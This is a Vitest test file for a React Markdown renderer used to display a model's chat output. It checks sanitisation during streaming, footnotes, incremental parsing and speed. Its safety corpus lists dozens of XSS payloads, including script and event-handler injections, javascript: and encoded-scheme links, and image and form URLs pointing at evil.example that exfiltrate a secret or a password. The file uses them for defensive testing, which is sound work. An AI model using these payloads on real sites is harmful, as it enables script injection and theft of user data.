// Markdown of a model: safe whatever it says, and cheap while it grows.
import { act } from "react";
import { createRoot, type Root } from "react-dom/client";
import { afterEach, describe, expect, it } from "vitest";
import { Markdown, safeUrl, split } from "../src/chat/markdown";

Object.assign(globalThis, { IS_REACT_ACT_ENVIRONMENT: true });

const mounted: Root[] = [];

function mount(): { element: HTMLElement; root: Root } {
  const element = document.createElement("div");
  const root = createRoot(element);
  mounted.push(root);
  return { element, root };
}

// Colours and sums come late: what is still mounted when the file ends would draw into a window that is gone.
afterEach(() => act(() => mounted.splice(0).forEach((root) => root.unmount())));

function show(text: string, partial = false): HTMLElement {
  const { element, root } = mount();
  act(() => root.render(<Markdown text={text} partial={partial} />));
  return element;
}

/** The page's own buttons. */
const TOOLS = ["Copy code", "Copy as CSV", "Wrap long lines", "Save as a file", "Preview"];

const CORPUS = [
  "<script>alert(1)</script>",
  "Hello <script src=//evil.example/x.js></script> there",
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=`javascript:alert(1)`>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  "<form action=//evil.example><input name=password><button>go</button></form>",
  "<style>body{display:none}</style><link rel=stylesheet href=//evil.example>",
  '<base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example">',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;&#x61;vascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://example.com/1)",
  "[x](//evil.example)",
  "[x](/api/auth/logout)",
  "<javascript:alert(1)>",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![leak](https://evil.example/?q=secret)",
  '![x](https://evil.example/"onerror="alert(1))',
  '![" onerror="alert(1)](x)',
  '[a](https://example.com/"onmouseover="alert(1))',
  '[a](https://example.com "x\\" onclick=\\"alert(1)")',
  "[![x](javascript:alert(1))](javascript:alert(2))",
  "- a\n  - <img src=x onerror=alert(1)>\n    > <svg onload=alert(1)>",
  "| <img src=x onerror=alert(1)> |\n|-|\n| [x](javascript:alert(1)) |",
  "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
  '```js" onload="alert(1)\nx\n```',
  "`<script>alert(1)</script>`",
  "# <script>alert(1)</script>",
  "<p id=root><div id=composer name=getElementById>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?php <img src=x onerror=alert(1)> ?>",
  "**<b onmouseover=alert(1)>bold**</b>",
  "\\<script>alert(1)\\</script>",
  "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
  "[x](https://user:pass@example.com\\@evil.example)",
  'a[^"onclick=alert(1)] b[^<img/src=x/onerror=alert(1)>]\n\n[^"onclick=alert(1)]: <script>alert(1)</script> ![x](https://evil.example/1.png)',
];

const ELEMENTS = new Set(
  "a blockquote br button code del div em figcaption figure h3 h4 h5 h6 hr input li ol p path pre rect span strong sup svg table tbody td th thead tr ul".split(
    " ",
  ),
);

describe("safety", () => {
  it.each(CORPUS)("%s", (text) => {
    for (let end = 1; end <= text.length; end++) {
      // Every prefix: that is what streams.
      const source = text.slice(0, end);
      const element = show(source, true);
      for (const node of element.querySelectorAll("*")) {
        expect(ELEMENTS, source).toContain(node.tagName.toLowerCase());
        for (const { name, value } of node.attributes) {
          expect(name, source).not.toMatch(/^on|^src|^style$|^id$|^name$|^xlink|^srcdoc$|^action$/);
          if (name === "href") expect(value, source).toMatch(/^(https?:\/\/|mailto:)/);
        }
        if (node.tagName === "svg") expect(node.closest("button"), source).not.toBeNull();
        if (node.tagName === "BUTTON" && !node.matches(".md-note-mark")) expect(TOOLS, source).toContain(node.getAttribute("aria-label") ?? node.textContent);
        if (node.tagName === "INPUT") expect(node.getAttribute("type"), source).toBe("checkbox");
      }
    }
  });

  it("shows raw HTML as the text that it is", () => {
    expect(show("a <b>c</b> d").textContent).toBe("a <b>c</b> d");
    expect(show("<script>alert(1)</script>").textContent).toContain("<script>alert(1)</script>");
    expect(show("one<br>two").querySelectorAll("br")).toHaveLength(1);
  });

  it("opens links elsewhere, without a trace", () => {
    const link = show("[x](https://example.com/a?b=c&d)").querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://example.com/a?b=c&d");
    expect(link?.getAttribute("target")).toBe("_blank");
    expect(link?.getAttribute("rel")).toBe("noopener nofollow ugc");
  });

  it("shows an image as a link to it", () => {
    const element = show("![a cat](https://cats.example/1.png)");
    expect(element.querySelector("img")).toBeNull();
    expect(element.querySelector("a")?.textContent).toBe("a cat");
  });

  it("lets links lead to http, https and mailto only", () => {
    expect(safeUrl("https://a.example/")).toBe("https://a.example/");
    expect(safeUrl("mailto:a@b.example")).toBe("mailto:a@b.example");
    for (const url of ["javascript:1", "/a", "//a", "a", "", "https://", "data:,x", " https://a.example"]) {
      expect(safeUrl(url), url).toBeNull();
    }
  });
});

describe("footnotes", () => {
  const TEXT = "Light bends[^1], and more[^why].\n\n[^1]: By a *lens*,\nsaid Snell.\n[^why]: See <b>there</b>: $a^2$.\n\nEnd[^none].";

  it("lead from the mark to the note and back", () => {
    const element = show(TEXT);
    expect([...element.querySelectorAll("[data-mark]")].map((mark) => [mark.textContent, mark.getAttribute("aria-label")])).toEqual([["1", "Footnote 1"], ["why", "Footnote why"]]);
    expect([...element.querySelectorAll("[data-note] > p")].map((note) => note.textContent)).toEqual(["By a lens,\nsaid Snell.", "See <b>there</b>: a^2."]);
    expect(element.querySelector("[data-note] em")?.textContent).toBe("lens");
  });

  it("are what was written where there is no note, once it can no longer come", () => {
    expect(show(TEXT).lastElementChild?.textContent).toBe("End[^none].");
    expect(show("End[^none].", true).querySelector("[data-mark]")).not.toBeNull();
  });

  it("are no links, and take no part in those of other blocks", () => {
    const element = show("See [^1] and [it][f].\n\n[^1]: https://one.example\n\n[f]: https://two.example");
    expect([...element.querySelectorAll("a")].map(({ href }) => href)).toEqual(["https://two.example/", "https://one.example/"]);
    expect(element.querySelectorAll("[data-note]")).toHaveLength(1);
  });

  it("come whole, whatever the pieces", () => {
    let state = split("");
    for (let end = 1; end <= TEXT.length; end++) {
      state = split(TEXT.slice(0, end), state);
      show(TEXT.slice(0, end), true);
    }
    expect(state.blocks).toEqual(split(TEXT).blocks);
  });
});

const TEXT = `# Title

One *two*
three [four][f].

1. a
2. b

   still b
   - c

3. d

| x | y |
|---|:-:|
| 1 | 2 |

\`\`\`js
const a = "<b>";

let b;
\`\`\`

> quote

Setext
===

- [x] done

[f]: https://four.example

Last words.
`;

describe("growing", () => {
  it("splits a growing text as it splits the whole", () => {
    for (const step of [1, 2, 3, 7, 50]) {
      let state = split("");
      for (let end = 0; end < TEXT.length + step; end += step) state = split(TEXT.slice(0, end), state);
      const whole = split(TEXT);
      expect(state.blocks).toEqual(whole.blocks);
    }
  });

  it("splits the safety corpus in the same way, letter by letter", () => {
    const all = CORPUS.join("\n\n");
    let state = split("");
    for (let end = 1; end <= all.length; end++) state = split(all.slice(0, end), state);
    expect(state.blocks).toEqual(split(all).blocks);
  });

  it("shows the same at the end, however it came", () => {
    const { element, root } = mount();
    for (let end = 0; end <= TEXT.length; end += 5) {
      act(() => root.render(<Markdown text={TEXT.slice(0, end)} partial />));
    }
    act(() => root.render(<Markdown text={TEXT} partial={false} />));
    expect(element.innerHTML).toBe(show(TEXT).innerHTML);
    expect(element.querySelector("a")?.getAttribute("href")).toBe("https://four.example/");
  });

  it("keeps the elements of finished blocks", () => {
    const { element, root } = mount();
    act(() => root.render(<Markdown text={"First.\n\nSec"} partial />));
    const first = element.firstElementChild;
    act(() => root.render(<Markdown text={"First.\n\nSecond.\n\nThird"} partial />));
    expect(element.firstElementChild).toBe(first);
    expect(element.children).toHaveLength(3);
  });

  it("closes what is half there", () => {
    expect(show("some **bold", true).querySelector("strong")?.textContent).toBe("bold");
    expect(show("```js\nlet a", true).querySelector("pre")?.textContent).toBe("let a");
    expect(show("see [the site](https://exa", true).querySelector("a")).toBeNull();
  });

  it("reads long answers fast", () => {
    const long = TEXT.repeat(200);
    let state = split("");
    const start = performance.now();
    for (let end = 0; end < long.length; end += 40) state = split(long.slice(0, end), state);
    // Quadratic reading takes minutes.
    expect(performance.now() - start).toBeLessThan(5_000);
  });
});
